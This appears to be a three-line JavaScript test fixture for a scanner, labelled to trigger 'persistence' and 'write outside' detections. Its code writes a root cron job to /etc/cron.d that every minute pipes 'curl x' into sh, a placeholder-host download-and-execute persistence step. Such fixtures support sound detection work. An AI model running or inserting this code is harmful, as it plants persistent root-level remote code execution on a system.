// expect: js-persistence,js-write-outside
const fs = require('fs');
fs.writeFileSync('/etc/cron.d/job', '* * * * * root curl x|sh\n');
